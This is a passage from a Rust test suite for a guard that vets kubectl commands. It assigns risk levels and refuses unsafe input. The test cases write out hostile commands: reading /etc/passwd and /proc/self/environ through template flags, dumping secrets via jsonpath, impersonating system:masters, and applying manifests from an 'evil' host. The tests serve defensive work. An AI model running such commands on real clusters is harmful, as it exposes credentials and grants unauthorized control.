        assert_eq!(
            run("get pods", Some("kind: Pod")),
            Err(Refusal::UnusedManifest)
        );
    }

    #[test]
    fn reads_config_view_raw() {
        for cmd in [
            "config view",
            "config view --raw",
            "config view --flatten",
            "config set-context x --namespace=y",
            "config use-context other",
        ] {
            assert!(matches!(refused(cmd), Refusal::Command { .. }), "{cmd}");
        }
        assert_eq!(level("config get-contexts"), RiskLevel::Low);
    }

    #[test]
    fn reads_template_files() {
        for cmd in [
            "get pods -o go-template-file=/proc/self/environ",
            "get pods -ogo-template-file=/proc/self/environ",
            "get pods --output=jsonpath-file=/etc/passwd",
            "get pods -o templatefile --template=/etc/passwd",
            "get pods -o custom-columns-file=/etc/passwd",
        ] {
            assert!(matches!(refused(cmd), Refusal::Flag { .. }), "{cmd}");
        }
        for cmd in [
            "apply -f /etc/passwd",
            "apply -f https://evil/x.yaml",
            "apply -k /tmp",
            "create configmap x --from-file=/etc/passwd",
            "create secret tls x --cert=/a --key=/b",
            "cluster-info dump --output-directory=/tmp/x",
            "patch deploy/web --patch-file=/etc/passwd",
        ] {
            assert!(matches!(refused(cmd), Refusal::Flag { .. }), "{cmd}");
        }
    }

    #[test]
    fn reads_secrets_through_templates() {
        for cmd in [
            "get secret db -o jsonpath={.data}",
            "get secrets -ojsonpath={.data.password}",
            "get Secrets.v1 -o go-template={{.data}}",
            "get secret/db --template={{.data}}",
            "get pods,secrets -o custom-columns=D:.data",
            "get --raw /api/v1/namespaces/shop/secrets -o jsonpath={.items}",
        ] {
            assert!(matches!(refused(cmd), Refusal::SecretTemplate(_)), "{cmd}");
        }
        assert!(ok("get secret db -o yaml").reads_secrets);
        assert!(ok("get --raw /api/v1/secrets").reads_secrets);
        assert!(!ok("get pods -o jsonpath={.items}").reads_secrets);
    }

    #[test]
    fn glued_flags_switch_nothing() {
        for cmd in [
            "get pods -shttps://host",
            "get pods -As https://host",
            "get pods --user=admin",
            "get pods --cluster=other",
            "get pods --token abc",
            "get pods --kubeconfig /tmp/k",
            "get pods --as=admin",
            "get pods --as-group system:masters",
            "get pods --as-uid 0",
            "get pods --username u",
            "get pods --password p",
            "get pods --client-key k",
            "get pods --client-certificate c",
            "get pods --certificate-authority ca",
            "get pods --insecure-skip-tls-verify",
            "get pods --cache-dir /tmp",
            "get pods -v=9",
            "get pods --profile=cpu",
        ] {
            assert!(matches!(refused(cmd), Refusal::Flag { .. }), "{cmd}");
        }
        // `-p --token=x` is a patch value, as kubectl reads it: nothing to refuse, and it runs as
        // one value.
        let c = ok("patch deploy web -p --token=abc");
        assert_eq!(c.command.value("patch"), Some("--token=abc"));
        assert_eq!(
            refused("get pods --context prod"),
            Refusal::Context("prod".into(), "sandbox".into())
        );
        assert_eq!(ok("get pods --context=sandbox").context, "sandbox");
        assert!(
            !ok("get pods --context=sandbox")
                .argv
                .iter()
                .any(|a| a.contains("context"))
        );
        assert_eq!(
            refused("delete pod -- -rf"),
            Refusal::DashName("-rf".into())
        );
        assert!(matches!(
            refused("get pods -n"),
            Refusal::Parse(ParseError::MissingValue(_))
        ));
        assert!(matches!(
            refused("krew install evil"),
            Refusal::Parse(ParseError::UnknownCommand(_))
        ));
    }

    #[test]
    fn glued_namespaces_are_the_namespace() {
        let c = ok("label pods -l app=x -Rnbatch team=a");
        assert_eq!(c.scope, Scope::Namespaces(vec!["batch".into()]));
        let c = ok("label pods -l app=x -Rnkube-system team=a");
        assert_eq!(
            c.assessment.level,
            RiskLevel::High,
            "{}",
            c.assessment.reason
        );
        assert_eq!(ok("get pods -A").scope, Scope::All);
        assert_eq!(ok("get --raw /api/v1/secrets").scope, Scope::All);
        assert_eq!(
            ok("get --raw /api/v1/namespaces/batch/pods").scope,
            Scope::Namespaces(vec!["batch".into()])
        );
        assert_eq!(ok("get --raw /healthz").scope, Scope::None);
        assert_eq!(
            ok("cluster-info dump --namespaces batch,shop").scope,
            Scope::Namespaces(vec!["batch".into(), "shop".into()])
        );
        assert_eq!(ok("get pods").scope, Scope::Namespaces(vec!["shop".into()]));
    }

    #[test]
    fn scale_to_zero_is_high() {
        for r in ["0", "00", "0x0", "+0", "-0"] {
            assert_eq!(
                level(&format!("scale deploy/web --replicas={r}")),
                RiskLevel::High,
                "{r}"
            );
        }
        assert_eq!(level("scale deploy/web --replicas 2"), RiskLevel::Medium);
        assert_eq!(level("scale deploy/web --replicas=100000"), RiskLevel::High);
    }

    #[test]
    fn commands_without_a_dry_run_get_a_text_plan() {
        let c = ok("certificate approve csr-1");
        assert!(matches!(c.preview, Preview::Text(_)), "{:?}", c.preview);
        for cmd in [
            "exec web-1 -- ls",
            "port-forward svc/web 8080:80",
            "proxy",
            "cp a:/x /tmp/x",
            "attach web-1",
            "debug web-1 --image=busybox",
            "edit deploy/web",
            "create token default",
            "plugin list",
            "kustomize .",
            "apply edit-last-applied deploy/web",
        ] {
            assert!(matches!(refused(cmd), Refusal::Command { .. }), "{cmd}");
        }
        assert!(matches!(
            run(
                "create -f - --edit --dry-run=server",
                Some("kind: ConfigMap")
            ),
            Err(Refusal::Flag { .. })
        ));
    }

    #[test]
    fn hostile_review_raw_writes_with_a_dry_run_and_fragments() {
        for cmd in [
            "delete --raw /api/v1/namespaces/shop/pods --dry-run=server",
            "create --raw /api/v1/namespaces/shop/pods -f - --dry-run=client",
        ] {
            let manifest = cmd.contains("-f -").then_some("kind: Pod");
            assert!(
                matches!(run(cmd, manifest), Err(Refusal::Command { .. })),
                "{cmd}"
            );
        }
        for path in [
            "/api/v1/namespaces/shop/persistentvolumeclaims#",
            "/api/v1/namespaces/shop/services/web:80/proxy/admin",
            "/api/v1/nodes/node-a/proxy/logs/",
            "/logs/kube-apiserver.log",
        ] {
            assert!(
                matches!(refused(&format!("get --raw {path}")), Refusal::RawPath(_)),
                "{path}"
            );
        }
    }

    #[test]
    fn hostile_review_manifest_kinds_as_kubectl_reads_them() {
        let typed =
            r#"{"apiVersion":"v1","kind":"NamespaceList","items":[{"metadata":{"name":"shop"}}]}"#;
        assert_eq!(
            run("delete -f -", Some(typed)).unwrap().assessment.level,
            RiskLevel::Forbidden
        );
        let secrets =
            r#"{"apiVersion":"v1","kind":"SecretList","items":[{"metadata":{"name":"db"}}]}"#;
        assert!(matches!(
            run("get -f - -o go-template={{.data}}", Some(secrets)),
            Err(Refusal::SecretTemplate(_))
        ));
        for bad in [
            "kind: Namespace\nkind: Pod\n",
            "{\"kind\":\"Pod\"}{\"kind\":\"Namespace\"}",
        ] {
            assert!(
                matches!(run("delete -f -", Some(bad)), Err(Refusal::Manifest(_))),
                "{bad}"
            );
        }
        let ns = "apiVersion: v1\nkind: Namespace\nmetadata: {name: shop}\n";
        assert_eq!(
            run("apply --force -f -", Some(ns))
                .unwrap()
                .assessment
                .level,
            RiskLevel::Forbidden
        );
        assert_eq!(
            run("apply --force -f -", Some("kind: ConfigMap"))
                .unwrap()
                .assessment
                .level,
            RiskLevel::High
        );
    }

    #[test]
    fn hostile_review_subcommands_hidden_behind_dash_dash() {
        for argv in [
            vec!["create", "--", "token", "sa"],
            vec!["cluster-info", "--", "dump"],
        ] {
            let argv: Vec<String> = argv.into_iter().map(str::to_owned).collect();
            let allowed = vec!["sandbox".to_owned()];
            let at = Defaults {
                context: "sandbox",
                allowed_contexts: &allowed,
                namespace: "shop",
            };
            assert!(
                matches!(check(&argv, None, at), Err(Refusal::Subcommand(..))),
                "{argv:?}"
            );
        }
        // "" and "-" are passed over in the search, as cobra does: this is `cluster-info dump`.
        assert_eq!(
            ok("cluster-info - dump").command.name(),
            "cluster-info dump"
        );
    }

    #[test]
    fn hostile_review_node_wide_commands_reach_every_namespace() {
        assert_eq!(ok("drain node-a").scope, Scope::All);
        assert_eq!(ok("describe node node-a").scope, Scope::All);
        assert_eq!(ok("taint nodes node-a k=v:NoExecute").scope, Scope::All);
    }

    #[test]
    fn changes_name_their_resource_types_for_the_cluster_scope_check() {
        let targets = |s: &str| ok(s).targets;
        assert_eq!(
            targets("create clusterrolebinding x --clusterrole=cluster-admin --user=me"),
            ["clusterrolebinding"]
        );
        assert_eq!(
            targets("delete clusterroles.rbac.authorization.k8s.io view"),
            ["clusterroles.rbac.authorization.k8s.io"]
        );
        assert_eq!(targets("label crb/x a=b"), ["crb"]);
        // Label pairs are not resources, whatever they look like (kubectl reads them so).
        assert_eq!(
            targets("label ns other pods/x=1 team=a --overwrite"),
            ["ns"]
        );
        assert_eq!(targets("annotate ns prod pods/x- a-"), ["ns"]);
        assert_eq!(targets("set image ds/x c=docker.io/img"), ["ds"]);
        assert_eq!(targets("annotate deploy/x example.com/a=b"), ["deploy"]);
        assert_eq!(targets("run mypod --image=busybox"), ["pods"]);
        assert_eq!(targets("cordon node-a"), ["nodes"]);
        assert_eq!(
            targets("certificate approve csr-1"),
            ["certificatesigningrequests"]
        );
        assert_eq!(targets("get clusterroles"), Vec::<String>::new());
        let manifest = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: x}\n---\napiVersion: v1\nkind: List\nitems:\n- {apiVersion: management.cattle.io/v3, kind: Cluster}\n- {apiVersion: v1, kind: ConfigMap}\n";
        assert_eq!(
            run("apply -f -", Some(manifest)).unwrap().targets,
            [
                "cluster.management.cattle.io",
                "clusterrolebinding.rbac.authorization.k8s.io",
                "configmap"
            ]
        );
    }

    mod properties {
        //! Generated argument lists (verbs, flags in every spelling, `--` anywhere, `--raw` paths):
        //! what is accepted runs as it was checked.
        use proptest::prelude::*;

        use super::*;
        use crate::kubectl::parse;

        fn word() -> impl Strategy<Value = String> {
            prop_oneof![
                prop::sample::select(vec![
                    "get",
                    "delete",
                    "apply",
                    "create",
                    "label",
                    "annotate",
                    "set",
                    "image",
                    "scale",
                    "rollout",
                    "restart",
                    "undo",
                    "run",
                    "patch",
                    "replace",
                    "drain",
                    "cordon",
                    "config",
                    "view",
                    "cluster-info",
                    "dump",
                    "exec",
                    "logs",
                    "describe",
                    "pods",
                    "pod",
                    "deploy/web",
                    "ns",
                    "namespace",
                    "Namespaces",
                    "pvc/data",
                    "pv",
                    "nodes",
                    "web",
                    "kube-system",
                    "batch",
                    "shop",
                    "--",
                    "-",
                    "-A",
                    "-Rnbatch",
                    "-nkube-system",
                    "-n",
                    "--namespace",
                    "--all",
                    "--raw",
                    "/api/v1/namespaces/x",
                    "/api/v1/secrets",
                    "--dry-run",
                    "--dry-run=none",
                    "--dry-run=server",
                    "--cascade",
                    "foreground",
                    "--replicas=0",
                    "--replicas",
                    "0x0",
                    "-l",
                    "app=web",
                    "-l=",
                    "--force",
                    "--prune",
                    "--grace-period",
                    "0",
                    "-v",
                    "--request-timeout",
                    "-f",
                    "-o",
                    "yaml",
                    "-ojsonpath={.data}",
                    "--context=sandbox",
                    "--context",
                    "-s",
                    "-shttps://evil",
                    "-As",
                    "--user=x",
                    "team=a",
                    "web=busybox:evil",
                    "sleep",
                    "1",
                    "--image=busybox",
                    "-it",
                ])
                .prop_map(str::to_owned),
                "[a-z-]{1,6}",
            ]
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(4000))]
            #[test]
            fn what_is_checked_is_what_runs(argv in prop::collection::vec(word(), 1..9)) {
                let allowed = vec!["sandbox".to_owned()];
                let at = Defaults { context: "sandbox", allowed_contexts: &allowed, namespace: "shop" };
                let manifest = argv.iter().any(|a| a == "-f").then_some("kind: ConfigMap");
                let Ok(c) = check(&argv, manifest, at) else { return Ok(()) };
                let reparsed = parse(&c.argv).ok();
                prop_assert_eq!(reparsed.as_ref(), Some(&c.command), "{:?}", argv);
                prop_assert!(c.read_only || c.assessment.level > RiskLevel::Low, "{:?}", argv);
                for f in &c.command.flags {
                    prop_assert!(!REFUSED_GLOBAL.iter().any(|(r, _)| *r == f.name), "{:?}", argv);
                    prop_assert!(f.name != "context", "{:?}", argv);
                }
                if c.command.name() == "delete" && c.command.args.first().is_some_and(|a| forbidden_kind(a).is_some()) {
                    prop_assert_eq!(c.assessment.level, RiskLevel::Forbidden, "{:?}", argv);
                }
                if let Preview::DryRun(dry) = &c.preview {
                    let flag = dry.iter().position(|a| a == "--dry-run=server");
                    prop_assert!(flag.is_some());
                    prop_assert!(dry.iter().position(|a| a == "--").is_none_or(|d| flag < Some(d)), "{:?}", dry);
                    let dry = parse(dry).unwrap();
                    prop_assert_eq!(dry.value("dry-run"), Some("server"));
                }
            }
        }
    }
}
